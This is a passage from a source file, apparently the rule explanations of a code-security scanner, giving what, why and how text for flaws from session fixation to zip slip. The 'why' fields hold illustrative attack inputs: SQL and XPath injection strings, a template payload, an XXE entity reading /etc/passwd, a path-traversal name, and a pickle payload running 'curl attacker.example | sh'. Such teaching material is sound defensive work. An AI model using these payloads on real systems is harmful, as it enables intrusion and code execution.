    what: 'A visitor logs in, and the session keeps the id that it had before. Worse is a program that takes the id from the request: `session_id($_GET[\'sid\'])`. In Spring Security, `sessionFixation().none()` switches the new id off.',
    why: 'An attacker who can choose the id needs no password:\n\n```text\n1. The attacker gets a session id and plants it in the victim\'s browser.\n2. The victim logs in. The same id now belongs to a logged-in session, and the attacker knows it.\n```',
    how: 'Make a new session id at every login, before you store who it is. In Java call `request.changeSessionId()`, in Rails `reset_session`, in PHP `session_regenerate_id(true)`. Django\'s `login` and Spring Security do it for you.',
  },
  'short-key': {
    what: 'A key for RSA, DSA, Diffie-Hellman or elliptic curves is made with too few bits.',
    why: 'The length of the key is what an attacker has to overcome. RSA with 512 bits can be rented:\n\n```text\nRSA  512 bits   some hours, about 75 dollars\nRSA 2048 bits   nobody has done it\n```',
    how: 'Take RSA with 3072 bits (2048 is the least), or the curve P-256, or Ed25519. In Java pass 3072 to `KeyPairGenerator.initialize`, in Ruby to `OpenSSL::PKey::RSA.new`, in PHP set `private_key_bits`.',
  },
  'sql-injection': {
    what: 'A value from outside, such as a query parameter or a form field, is glued into the text of an SQL statement. The database cannot tell which part of the text you wrote and which part came from the visitor.\n\nA statement with data of the request in it is reported where it is built, if it goes on to a function that the analysis does not know.',
    why: 'Whoever sends the value can change the statement: read other people’s rows, change or delete them.\n\nSuppose the page looks a user up by name. A visitor sends this instead of a name:\n\n```text\nx\' OR \'1\'=\'1\n```\n\nThe statement becomes `SELECT * FROM users WHERE name = \'x\' OR \'1\'=\'1\'`, and it returns every user. With other text the visitor can change or delete rows, or read other tables. Escaping quotes by hand does not help for numbers, and it is forgotten sooner or later.',
    how: 'Write a placeholder where the value belongs, and hand the value to the driver apart from the text. The database then treats it as data, whatever it contains. Each driver has its own placeholder.\n\nA placeholder stands for a value only. For the name of a table or column, or for `ASC` and `DESC`, pick one from a fixed list in your code.\n\nThe quotes around the value go away: the driver knows that it is text. A pattern for `LIKE` takes its `%` along into the value. A list for `IN` needs one placeholder for each element, or what the database has for lists, such as `= ANY($1)` in PostgreSQL. Where a text grows in branches, collect the values in a list, each beside its part of the text.\n\nPHP’s old functions `mysql_query` and its relatives have no placeholders, and PHP 7 took them away. Move to PDO or mysqli.',
  },
  'sql-syntax': {
    what: 'The database cannot read this statement: a word is misspelled, a comma or a parenthesis is missing, or the parts stand in the wrong order.',
    why: 'The statement fails when it runs, and not before. In a program that may be late: in front of a user.',
    how: 'Look at the marked place and at the word in front of it. The mistake is often one token earlier than the message. The parts of a query have a fixed order: `SELECT`, `FROM`, `WHERE`, `GROUP BY`, `HAVING`, `ORDER BY`, `LIMIT`.',
  },
  'template-injection': {
    what: 'Data from outside becomes part of a template’s source, instead of being given to the template as a variable. Template languages can read attributes and call functions, so the data is a program.',
    why: 'Whoever sends the data can run code on the server.\n\nA page greets the visitor, and glues the name into the template. A visitor sends this name:\n\n```text\n{{ config.SECRET_KEY }}\n```\n\nThe answer shows the secret key of the application. Longer expressions start programs.',
    how: 'Keep the template’s text fixed, in a file or a constant, and pass the data as variables. The template then shows the data and does not read it as instructions.\n\nIf visitors may write templates of their own, use a language without logic, such as Mustache, or a sandbox made for it.\n\nIn Java, do not build FreeMarker, Velocity or Thymeleaf templates from data, nor return a view’s name that contains data. In Ruby, do not pass data to `ERB.new` or `render inline:`. In PHP, do not pass data to Twig’s `createTemplate` or to Blade’s `Blade::render` as source.',
  },
  'timing-unsafe-comparison': {
    what: 'A signature, a key or a token from a request is compared with `==` or `===`.',
    why: 'Such a comparison stops at the first character that differs. The more characters are right, the longer it takes. An attacker who measures many requests finds one character after the other:\n\n```text\na000…  1.00 µs\nb000…  1.04 µs   the first character is right\n```',
    how: 'Compare with a function that always takes the same time: `crypto.timingSafeEqual` in Node.js, `hmac.compare_digest` in Python, `MessageDigest.isEqual` in Java, `ActiveSupport::SecurityUtils.secure_compare` in Ruby, `hash_equals` in PHP.',
  },
  'tls-verification-disabled': {
    what: 'A connection is encrypted, but nobody checks who is at the other end: the check of the certificate, or of the name in it, is switched off.',
    why: 'Whoever sits between the two sides can answer in the other’s name, and read and change everything.\n\nIn a café, a program asks a server for its data. The network answers itself:\n\n```text\ncertificate: self-signed, for *\n```\n\nThe program takes it, and sends its password.',
    how: 'Leave the check on. If a server has a certificate of your own authority, tell the client that authority’s certificate: `ca` in Node.js, `verify=\'ca.pem\'` in Requests, a trust store in Java, `ca_file` in Ruby, `CURLOPT_CAINFO` in PHP. For a server on your own machine, make a certificate that your machine trusts, with mkcert for example.',
  },
  'trust-boundary': {
    what: 'Data of a request goes into the session as it comes.',
    why: 'What stands in the session looks like the server\'s own. Code that reads it later does not check it again, and should not have to:\n\n```text\nPOST /step1   plan=free        the session now says plan=free\nPOST /step1   plan=enterprise  and now it says plan=enterprise\n```',
    how: 'Check the data first, against a list or a type, and put only the result into the session. That holds for every language.',
  },
  'unpinned-image': {
    what: 'A Dockerfile, a compose file or a workflow takes a part from others without saying which version: `latest`, no tag at all, or a tag of an action that its owner can move.',
    why: 'The same build gives another program tomorrow. That can break your service, and it lets whoever takes over the other project run code in yours. Tags of widely used actions have been moved to code that printed the secrets of every workflow:\n\n```text\nuses: some-owner/changed-files@v45   # yesterday harmless, today another commit\n```',
    how: 'Name a version of the image, or its digest, which cannot move at all. Name an action by its full commit, with the version in a comment. A tool such as Dependabot or Renovate then raises the versions in pull requests that you can read.',
  },
  'unrestricted-upload': {
    what: 'An uploaded file is stored under the name that the visitor’s computer gave it, so the visitor also chooses the file’s ending. Or uploads are taken whatever their type is.',
    why: 'The ending decides what a server and a browser do with a file.\n\nA visitor uploads a picture of this name:\n\n```text\nme.html\n```\n\nWhoever opens the link to it gets a page of the visitor’s making, with your site’s name in the address bar. On a server that runs PHP, `me.php` is a program.',
    how: 'Make up the name yourself, and take the ending from a list of those that you allow. Check the content as well, limit the size, and store uploads in a folder from which nothing is run. Best serve them from another domain.\n\nIn Java, do not use `getOriginalFilename` as the name. In Ruby on Rails, Active Storage makes up the names. In PHP, do not use `$_FILES[\'file\'][\'name\']` as the name.',
  },
  'unsafe-deserialization': {
    what: 'Bytes or text from outside are turned into objects with a format that can hold objects of any class, such as Python\'s pickle, Java\'s serialization or PHP\'s `serialize`. Settings count too that let JSON or XML name the class, such as the default typing of Jackson.',
    why: 'Such a format says which classes to make and how. The sender can choose classes that run a command while they are made. For pickle this is enough:\n\n```text\ncos\nsystem\n(S\'curl attacker.example | sh\'\ntR.\n```',
    how: 'Use a format that holds only data, such as JSON, and check what comes out. For YAML use the safe loader. In Java read JSON into a class of your own, without polymorphic types; in Ruby take `JSON.parse` and `YAML.safe_load` in place of `Marshal.load`; in PHP take `json_decode` in place of `unserialize`.',
  },
  'unsafe-reflection': {
    what: 'Data from outside names the class, the module or the function that the program uses.',
    why: 'Whoever sends the data reaches code that was never meant for visitors.\n\nA program calls the function that the request names. A visitor sends this name:\n\n```text\ndeleteEverything\n```\n\nIt is called, because it exists. Loading a class can run code of its own as well.',
    how: 'Look the name up in a table of what visitors may use, and refuse all other names. In JavaScript use a `Map`: a plain object also has `constructor` and `__proto__`.\n\nIn Java, do not pass data to `Class.forName` or `Method.invoke`. In Ruby, do not pass data to `constantize`, `const_get` or `send`. In PHP, do not use data as the name in `new $class` or `$object->$method()`.',
  },
  'unvalidated-input': {
    what: 'A handler stores what the request sends, and looks at none of it first.',
    why: 'A request is whatever the sender writes, not what your form offers:\n\n```text\n{"title": {"$ne": null}, "price": -1, "text": "(40 megabytes)"}\n```\n\nThe database takes some of it and refuses some of it, and the rest of the program meets data that it was not written for.',
    how: 'Say what you expect, and answer 400 to the rest: type, length, range, form. A library makes that short: zod, Joi or class-validator in JavaScript, pydantic or marshmallow in Python, Bean Validation in Java, model validations in Rails, form requests in Laravel.',
  },
  'weak-cipher': {
    what: 'Data is encrypted with an old cipher (DES, Triple DES, RC4, Blowfish), in the mode ECB, or with an initialisation vector that is always the same. In Java, RSA without padding, or with the old one, is named too. In Python, modes that do not notice changes (CBC, CTR) are pointed out where nothing signs the result.',
    why: 'Old ciphers have short keys or short blocks and can be broken. ECB encrypts equal blocks to equal blocks, so patterns stay visible:\n\n```text\nbalance=100 balance=100   →   8f3a… 8f3a…\n```\n\nA fixed vector does the same for whole messages.',
    how: 'Use AES-256 in the mode GCM, with a new random vector for each message. GCM also notices when the text was changed. In Java write `Cipher.getInstance("AES/GCM/NoPadding")`, in Ruby `OpenSSL::Cipher.new(\'aes-256-gcm\')`, in PHP `openssl_encrypt` with `aes-256-gcm` or the functions of sodium.',
  },
  'weak-hash': {
    what: 'MD5, SHA-1 or an older hash function is used where somebody could gain by fooling it. In Java, a class that is a `MessageDigest` of its own is pointed out as well: hardly anyone has tried to break it.',
    why: 'A hash stands for the data that it was made from. For MD5 and SHA-1 two different inputs with one hash can be made, so it stands for both:\n\n```text\ncontract-1000-euro.pdf   a5b1…\ncontract-9000-euro.pdf   a5b1…\n```\n\nAs a checksum against accidents, for a cache or an ETag, they still do.',
    how: 'Use SHA-256 or a newer function. Where a signature is meant, use an HMAC with a key. For passwords use bcrypt, scrypt or Argon2. In Java write `MessageDigest.getInstance("SHA-256")`, in Ruby `Digest::SHA256`, in PHP `hash(\'sha256\', …)`.',
  },
  'weak-password-hash': {
    what: 'A password is hashed with a function such as MD5, SHA-1 or SHA-256, which is made to be fast. In Java, encoders of Spring Security that do this, or that change nothing, are reported where they are made.',
    why: 'A stolen database is attacked offline: the attacker hashes one guess after the other and compares. A fast hash makes that cheap. One graphics card tries this many passwords a second against MD5:\n\n```text\n100,000,000,000\n```\n\nWithout a salt it is worse. Equal passwords have equal hashes, and lists of hashes of common passwords are on the web.',
    how: 'Use a hash made for passwords: bcrypt, scrypt or Argon2. They are slow on purpose, and they mix in a random salt. At login let the library compare. In Java take Spring Security\'s `BCryptPasswordEncoder`, in Rails `has_secure_password`, in PHP `password_hash` and `password_verify`.',
  },
  'weak-random': {
    what: 'A token, a password, a key or a code is made with a random generator that is not for secrets, such as `Math.random`.',
    why: 'Such a generator computes each number from the one before. An attacker who sees a few numbers computes the rest, and with them the next reset link:\n\n```text\nseen:      0.8051  0.1627  0.4419\ncomputed:  0.9350  →  https://shop.example/reset?token=xk93…\n```',
    how: 'Use the generator that the language has for this: `crypto.randomBytes` or `crypto.randomUUID` in Node.js, `secrets` in Python, `SecureRandom` in Java and Ruby, `random_bytes` and `random_int` in PHP.',
  },
  'weak-work-factor': {
    what: 'A password is hashed with bcrypt, scrypt or PBKDF2, but with a cost so low that the hash is quick to compute.',
    why: 'These functions protect a stolen database because every guess takes time. The cost says how much. With bcrypt each step of the cost halves what an attacker can try:\n\n```text\ncost  4: about 2,000 guesses a second on one processor core\ncost 12: about 4\n```',
    how: 'Choose the cost so that one hash takes about a quarter of a second on your server: 12 for bcrypt, 600,000 iterations for PBKDF2 with SHA-256, N of 131,072 for scrypt. That holds in every language: `new BCryptPasswordEncoder(12)` in Java, `BCrypt::Password.create(password, cost: 12)` in Ruby, `password_hash($password, PASSWORD_BCRYPT, [\'cost\' => 12])` in PHP.',
  },
  'xml-external-entities': {
    what: 'XML can define abbreviations, called entities, and an entity can stand for a file or an address. A parser that follows them reads the file while it reads the XML.',
    why: 'Whoever sends the XML can read files of your server, or make it call inner services.\n\nA visitor sends this order:\n\n```text\n<!DOCTYPE o [<!ENTITY f SYSTEM "file:///etc/passwd">]>\n<order><name>&f;</name></order>\n```\n\nThe name of the order is now the list of users.',
    how: 'Turn DTDs, or at least external entities, off in the parser. Many parsers have them off by default today; then leave it so.\n\nIn Node.js, do not set `noent` (libxmljs). In Python, use `defusedxml`, or lxml’s `XMLParser(resolve_entities=False)`; Python’s own parsers follow no external entities, but with an old Expat a text whose entities grow without end stops the program. In Java, set the feature `http://apache.org/xml/features/disallow-doctype-decl` to true on each factory, and `XMLInputFactory.SUPPORT_DTD` to false. In Ruby, do not set `NOENT` or `DTDLOAD` for Nokogiri. In PHP, do not pass `LIBXML_NOENT` or `LIBXML_DTDLOAD`.',
  },
  'xpath-injection': {
    what: 'Data from outside becomes part of an XPath expression. A quote in the data ends the text that you meant it to be, and the rest is read as conditions.\n\nThe same goes for XML that tells another service what to do, such as the TwiML that Twilio reads during a call: with `<` in the data, it brings elements of its own.',
    why: 'Whoever sends the data can read other parts of the document, or make a check succeed.\n\nA program looks an account up in an XML file. A visitor sends this name:\n\n```text\n\' or \'1\'=\'1\n```\n\nThe condition holds for every account, and the first one is returned.',
    how: 'Bind the data as a variable of the expression, if your library can do that: `$name` in the expression, and the value apart from it. If it cannot, accept only letters and digits.\n\nIn Java, use `XPathVariableResolver`. In Ruby, Nokogiri’s `xpath` takes variables as a hash. PHP’s `DOMXPath` and SimpleXML have no variables: write the value as a text of XPath with `concat`, which can hold both kinds of quotes (PHP 8.4 has `DOMXPath::quote`).\n\nFor XML, escape the data (`xml.sax.saxutils.escape` in Python) or let the library build the text (`VoiceResponse` of Twilio).',
  },
  'zip-slip': {
    what: 'An archive is unpacked, and the names of the files in it become paths without a check. A name in an archive can be any text, also one with `../`.',
    why: 'Whoever makes the archive can write files anywhere: over your program, or into its settings.\n\nA visitor uploads an archive with a file of this name:\n\n```text\n../../app/server.js\n```\n\nUnpacked into `uploads/new/`, it replaces the server’s code, and runs at the next start.',
    how: 'Make the finished path absolute, and check that it lies in your folder, before you write. Or use only the last part of the name. Limit how much is unpacked, too: a small archive can hold very much.\n\nPython’s `zipfile` removes such names by itself. Its `tarfile` needs `filter=\'data\'` (the default since 3.14).\n\nIn Java, compare `folder.resolve(entry.getName()).normalize()` with the folder by `startsWith`. In Ruby, check the name of each entry of rubyzip. In PHP, `ZipArchive::extractTo` removes `../`, but names that you read with `getNameIndex` are as they are.',
  },
};
